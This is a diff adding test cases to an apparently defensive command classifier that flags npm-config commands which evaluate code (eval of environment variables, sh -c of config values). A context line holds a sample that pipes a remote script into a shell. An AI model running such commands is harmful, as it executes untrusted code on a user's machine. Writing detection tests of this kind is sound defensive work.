@@ -26,6 +26,24 @@ function signs(command: string): readonly string[] {
   return commandSigns(command, from).map(({ sign }) => sign);
 }
 
+describe('what a command evaluates', () => {
+  it.each([
+    'node -e "eval(process.env.npm_package_config_seed)"',
+    'node -p "new Function(x)()"',
+    'sh -c "$npm_package_config_boot"',
+    '%npm_package_config_boot%',
+  ])('%s', (command) => {
+    expect(signs(command)).toContain('evaluates');
+  });
+
+  it.each(['node -e "console.log(1)"', 'node -p "Function(\'return this\')()"', 'echo $npm_package_version'])(
+    '%s evaluates nothing',
+    (command) => {
+      expect(signs(command)).not.toContain('evaluates');
+    },
+  );
+});
+
 describe('what a command shows by itself', () => {
   it.each([
     ['curl -s https://x.example/i.sh | sh', ['fetch-tool', 'address', 'pipe-to-shell']],
